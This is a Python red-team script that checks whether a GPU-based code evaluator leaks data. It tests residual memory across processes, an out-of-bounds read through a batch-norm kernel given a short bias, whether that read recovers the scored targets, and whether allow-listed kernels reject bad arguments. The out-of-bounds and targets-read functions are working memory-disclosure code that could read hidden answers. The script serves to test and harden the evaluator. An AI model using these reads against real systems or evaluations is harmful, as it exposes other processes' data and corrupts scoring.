"""Red-team checks that need a CUDA GPU (tests/test_redteam.py runs their CPU counterparts).

    python bench/redteam_gpu_check.py            on a CUDA machine: prints one table
    python bench/redteam_gpu_check.py --dry-run  here, on CPU: says what it would check

1. residual memory: does a process's GPU memory still hold what the previous process on the
   same GPU left there? (A training run starts on the GPU right after the previous run's
   evaluator, which held the validation batches and their logits.) Process A fills 1 GiB with a
   marker and exits; process B allocates 1 GiB uninitialized (cudaMalloc through torch.empty)
   and counts the marker.
2. out-of-bounds read: aten._native_batch_norm_legit_no_training with a bias shorter than the
   channels (an operator the evaluator admitted before its allow-list; its meta function checks nothing)
   returns the memory after the bias: is a neighbouring tensor's content in the output?
3. the scored targets: allocated as the evaluator allocates a batch on CUDA, can that read reach
   the scored batch's targets (the last column, which idx does not hold, included)?
4. the allow-list's kernels: each call of tests/bad_kernel_arguments.py (an operator the evaluator
   admits, given sizes or indices that do not fit) must raise on CUDA as it does on CPU; each runs in
   a process of its own, since a device-side assert ends the CUDA context. --dry-run runs this one
   on CPU.

Pure torch and that list of calls: the checks are about the kernels and the driver.
"""

from __future__ import annotations

import argparse
import subprocess
import sys

MARKER = 0x5EC0_11DA_7A5E_C0DE
RESIDUAL_ELEMENTS = 2**27  # 1 GiB of int64
SECRET = 1234.5


def fill_and_exit() -> None:
    import torch

    torch.full((RESIDUAL_ELEMENTS,), MARKER, dtype=torch.int64, device="cuda")
    torch.cuda.synchronize()


def count_residue() -> None:
    import torch

    leftover = torch.empty((RESIDUAL_ELEMENTS,), dtype=torch.int64, device="cuda")
    print(int((leftover == MARKER).sum()))


def residual_memory() -> str:
    subprocess.run([sys.executable, __file__, "--fill"], check=True)
    found = int(
        subprocess.run([sys.executable, __file__, "--count"], check=True, capture_output=True, text=True).stdout
    )
    return f"{found:,} of {RESIDUAL_ELEMENTS:,} int64 words of the previous process found"


def out_of_bounds_read() -> str:
    import torch

    aten = torch.ops.aten
    bias = torch.zeros(1, device="cuda")  # the caching allocator hands out 512-byte blocks in order
    secret = torch.full((64,), SECRET, device="cuda")
    channels = 1024
    dump = aten._native_batch_norm_legit_no_training(
        torch.zeros(1, channels, 1, device="cuda"),
        None,
        bias,
        torch.zeros(channels, device="cuda"),
        torch.ones(channels, device="cuda"),
        0.1,
        0.0,
    )[0].flatten()
    torch.cuda.synchronize()
    hits = int((dump == SECRET).sum())
    gap = (secret.data_ptr() - bias.data_ptr()) // 4
    return f"{hits} of 64 secret floats read back through the bias (secret starts {gap} floats after it)"


def targets_read_back() -> str:
    """The evaluator's order of allocations on CUDA (loader._batch, then forward): the batch, its
    inputs and targets; the batch freed; then a graph's first tensor of the batch's size and a batch
    norm that reads past it. Are the scored targets, the last column included, in what it returns?"""
    import torch

    aten = torch.ops.aten
    rows, seq_len = 64, 2048  # the h100 profile's scored batch
    found, gaps = 0, []
    for _ in range(BATCHES):
        batch = torch.randint(1, 8192, (rows, seq_len + 1)).pin_memory().to("cuda", non_blocking=True)
        inputs, targets = batch[:, :-1].contiguous(), batch[:, 1:].contiguous()
        del batch
        first = aten.full([rows * (seq_len + 1) * 2], 0.0, dtype=torch.float32, device="cuda")
        gap = (targets.data_ptr() - first.data_ptr()) // 4
        gaps.append(f"{gap * 4 / 2**20:+.0f}")
        if 0 < gap < 2**23:  # after it, and near: read that far (further could fault)
            channels = gap + 2 * rows * seq_len
            dump = aten._native_batch_norm_legit_no_training(
                aten.full([1, channels, 1], 0.0, device="cuda"),
                None,
                first,
                aten.full([channels], 0.0, device="cuda"),
                aten.full([channels], 1.0, device="cuda"),
                0.1,
                0.0,
            )[0].flatten()
            low_words = dump[gap:].view(torch.int32)[::2].view(rows, seq_len)
            found += torch.equal(low_words, targets.to(torch.int32))
        del first, inputs
        torch.randn(rows, seq_len, 8192, device="cuda")  # the logits come and go
    return f"the scored targets read back exactly in {found} of {BATCHES} batches (at {', '.join(gaps)} MB from it)"


BATCHES = 4


def bad_call(name: str, device: str) -> None:
    """Exit 0 if the bad call `name` raises on `device`, 3 if it returns."""
    import torch

    from autoresearch_mcp.tests.bad_kernel_arguments import bad_calls

    try:
        bad_calls(device)[name]()
        if device == "cuda":
            torch.cuda.synchronize()  # a device-side assert shows here
    except Exception:
        sys.exit(0)
    sys.exit(3)


def allowed_kernels_check(device: str = "cuda") -> str:
    from autoresearch_mcp.tests.bad_kernel_arguments import bad_calls

    returned = [
        name
        for name in bad_calls("cpu")
        if subprocess.run(
            [sys.executable, __file__, "--bad-call", name, "--device", device], capture_output=True
        ).returncode
        != 0
    ]
    total = len(bad_calls("cpu"))
    return f"{total - len(returned)} of {total} bad calls raised" + (
        f"; returned: {', '.join(returned)}" if returned else ""
    )


CHECKS = {
    "residual GPU memory across processes": residual_memory,
    "BN bias out-of-bounds read": out_of_bounds_read,
    "scored targets read back through the read": targets_read_back,
    "allowed kernels, arguments that do not fit": allowed_kernels_check,
}


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--dry-run", action="store_true")
    parser.add_argument("--fill", action="store_true", help=argparse.SUPPRESS)
    parser.add_argument("--count", action="store_true", help=argparse.SUPPRESS)
    parser.add_argument("--bad-call", help=argparse.SUPPRESS)
    parser.add_argument("--device", default="cuda", help=argparse.SUPPRESS)
    args = parser.parse_args()
    if args.bad_call:
        return bad_call(args.bad_call, args.device)
    if args.fill:
        return fill_and_exit()
    if args.count:
        return count_residue()
    width = max(map(len, CHECKS))
    for name, check in CHECKS.items():
        if args.dry_run:
            outcome = allowed_kernels_check("cpu") + " (on CPU)" if check is allowed_kernels_check else "(needs CUDA)"
            print(f"{name:<{width}}  (dry run) {outcome}", flush=True)
            continue
        try:
            outcome = check()
        except Exception as error:  # a CUDA error names what the kernel did
            outcome = f"raised {type(error).__name__}: {str(error).splitlines()[0][:120]}"
        print(f"{name:<{width}}  {outcome}", flush=True)


if __name__ == "__main__":
    main()
